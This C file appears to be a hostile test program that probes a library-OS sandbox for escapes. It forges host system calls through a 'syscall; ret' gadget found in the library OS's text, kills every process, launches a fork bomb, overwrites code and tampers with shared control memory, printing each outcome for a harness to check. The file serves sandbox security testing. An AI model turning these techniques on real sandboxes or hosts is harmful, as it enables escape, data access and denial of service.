/*
 * escape ATTEMPT [ARG]... - tries to get out of an instance.
 *
 * The program is hostile: it searches the library OS's text, which it can read, for a `syscall;
 * ret` and calls it with registers of its own choice, so that the host kernel sees a call from
 * where calls are allowed.  "Forged" below means that.  Each attempt prints what it got, one line;
 * what has to kill it must not come back at all.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "leat/abi/boot.h"
#include "leat/abi/control.h"

#define TEXT_MAX (ABI_IMAGE_MAX)
#define FORKS_MAX 200
#define CLONE_PROCESS (CLONE_FILES | SIGCHLD)

static uint64_t gadget; /* of a `syscall; ret` in the library OS */

/* The boot block says where the text is; that it can be read at all is no secret. */
static void gadget_find(void)
{
	const struct abi_boot *boot = (const struct abi_boot *)ABI_BOOT_BASE;
	const uint8_t *at = (const uint8_t *)boot->text_low;
	const uint8_t *end = (const uint8_t *)boot->text_high;

	for (; at + 3 < end; at++)
		if (at[0] == 0x0f && at[1] == 0x05 && at[2] == 0xc3) {
			gadget = (uint64_t)at;
			return;
		}
	fprintf(stderr, "escape: no gadget\n");
	exit(99);
}

/* A host call from inside the library OS's text. */
static long forged(long nr, long a, long b, long c, long d, long e, long f)
{
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;
	long ret;

	__asm__ volatile("call *%[gadget]"
			 : "=a"(ret)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8),
			   "r"(r9), [gadget] "m"(gadget)
			 : "rcx", "r11", "memory");
	return ret;
}

#define FORGED(nr, ...) FORGED_(nr, __VA_ARGS__, 0, 0, 0, 0, 0, 0)
#define FORGED_(nr, a, b, c, d, e, f, ...)                                                         \
	forged(nr, (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

static const char *error_name(long r)
{
	return r >= 0 ? "done" : strerrorname_np((int)-r);
}

static long number(const char *text)
{
	return strtol(text, NULL, 0);
}

/* forged NR [ARG]...: any host call */
static void try_forged(char **arg)
{
	long v[7] = {0};

	for (int i = 0; i < 7 && arg[i] != NULL; i++)
		v[i] = number(arg[i]);
	printf("%s\n", error_name(forged(v[0], v[1], v[2], v[3], v[4], v[5], v[6])));
}

/* site NR [ARG]...: the same call from the program's own text, in a page that it just made */
static void try_site(char **arg)
{
	static const uint8_t code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89,
				       0xd6, 0x48, 0x89, 0xca, 0x0f, 0x05, 0xc3};
	uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
			     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	long v[4] = {0};

	if (page == MAP_FAILED)
		exit(98);
	memcpy(page, code, sizeof(code));
	for (int i = 0; i < 4 && arg[i] != NULL; i++)
		v[i] = number(arg[i]);
	printf("%s\n",
	       error_name(((long (*)(long, long, long, long))page)(v[0], v[1], v[2], v[3])));
}

/* open DIRFD PATH FLAGS: forged; prints the file's first bytes if it opens */
static void try_open(char **arg)
{
	char text[64] = "";
	long fd = FORGED(SYS_openat, number(arg[0]), arg[1], number(arg[2]));
	long n = fd < 0 ? 0 : FORGED(SYS_read, fd, text, sizeof(text) - 1);

	if (fd < 0 || n < 0)
		printf("%s\n", error_name(fd < 0 ? fd : n));
	else
		printf("read %.*s\n", (int)strcspn(text, "\n"), text);
}

/* descriptors: all numbers that the host knows in this process */
static void try_descriptors(void)
{
	struct stat st;

	for (int fd = 0; fd < 65536; fd++)
		if (FORGED(SYS_fstat, fd, &st) == 0)
			printf("%d ", fd);
	printf("\n");
}

/* scribble: random words over everything that leatd reads, for a while; then a request */
static void try_scribble(void)
{
	uint32_t *word = (uint32_t *)ABI_WINDOW_BASE, seed = 1;

	for (int round = 0; round < 200000; round++) {
		seed = seed * 1664525 + 1013904223;
		word[(seed >> 4) % (ABI_BUFS_OFF / sizeof(*word))] = seed * 2654435761U;
		if (round % 64 == 0) {
			uint64_t bell = round % 128 ? 1 : ABI_BELL_WISH;
			FORGED(SYS_write, ABI_FD_DOORBELL, &bell, sizeof(bell));
		}
	}
	printf("done\n");
}

/* window: makes it smaller, pulls its pages away under leatd, seals it */
static void try_window(void)
{
	printf("shrink %s\n", error_name(FORGED(SYS_ftruncate, ABI_FD_WINDOW, 0)));
	printf("grow %s\n", error_name(FORGED(SYS_ftruncate, ABI_FD_WINDOW, 1L << 40)));
	printf("punch %s\n", error_name(FORGED(SYS_fallocate, ABI_FD_WINDOW, 3, 0, ABI_BUFS_OFF)));
}

/* others: signals to every process that there may be, from 1 up */
static void try_others(long last)
{
	long reached = 0;

	for (long pid = 1; pid <= last; pid++)
		if (pid != FORGED(SYS_getpid, 0) && FORGED(SYS_tgkill, pid, pid, SIGKILL) == 0)
			reached++;
	printf("%ld\n", reached);
}

/* bomb: host processes that the library OS knows nothing of, and nobody waits for */
static void try_bomb(void)
{
	static uint32_t word;
	long n = 0, r = 0;

	for (; n < FORKS_MAX; n++) {
		r = FORGED(SYS_clone, CLONE_PROCESS);
		if (r == 0)
			for (;;)
				FORGED(SYS_futex, &word, FUTEX_WAIT, 0);
		if (r < 0)
			break;
	}
	printf("%ld\n", n);
	fflush(stdout);
	FORGED(SYS_exit_group, 0);
}

/* text: overwrites the library OS's own text with int3, in this process */
static void try_text(void)
{
	const struct abi_boot *boot = (const struct abi_boot *)ABI_BOOT_BASE;
	uint64_t size = boot->text_high - boot->text_low;
	long r = FORGED(SYS_mprotect, boot->text_low, size, PROT_READ | PROT_WRITE | PROT_EXEC);

	printf("%s\n", error_name(r));
	fflush(stdout);
	if (r == 0)
		memset((void *)boot->text_low, 0xcc, size);
	_exit(0);
}

/* control: writes to leatd's page */
static void try_control(void)
{
	long r = FORGED(SYS_mprotect, ABI_CONTROL_BASE, 4096, PROT_READ | PROT_WRITE);

	printf("%s\n", error_name(r));
	fflush(stdout);
	if (r == 0)
		*(volatile uint32_t *)ABI_CONTROL_BASE = 0;
}

/* futex: wakes and waits on words that all instances map */
static void try_futex(void)
{
	struct timespec soon = {0, 1000000};

	printf("wake %ld\n", FORGED(SYS_futex, ABI_CONTROL_BASE, FUTEX_WAKE, 1000));
	printf("wait %s\n", error_name(FORGED(SYS_futex, ABI_CONTROL_BASE, FUTEX_WAIT,
					      *(uint32_t *)ABI_CONTROL_BASE, &soon)));
}

static void try_int80(void)
{
	long r = 20;

	__asm__ volatile("int $0x80" : "+a"(r) : : "memory");
	printf("%ld\n", r);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "int80") == 0) {
		try_int80();
		return 0;
	}
	gadget_find();
	if (strcmp(what, "forged") == 0 && argc > 2)
		try_forged(argv + 2);
	else if (strcmp(what, "site") == 0 && argc > 2)
		try_site(argv + 2);
	else if (strcmp(what, "open") == 0 && argc > 4)
		try_open(argv + 2);
	else if (strcmp(what, "descriptors") == 0)
		try_descriptors();
	else if (strcmp(what, "scribble") == 0)
		try_scribble();
	else if (strcmp(what, "window") == 0)
		try_window();
	else if (strcmp(what, "others") == 0 && argc > 2)
		try_others(number(argv[2]));
	else if (strcmp(what, "bomb") == 0)
		try_bomb();
	else if (strcmp(what, "text") == 0)
		try_text();
	else if (strcmp(what, "control") == 0)
		try_control();
	else if (strcmp(what, "futex") == 0)
		try_futex();
	else
		return 97;
	return 0;
}
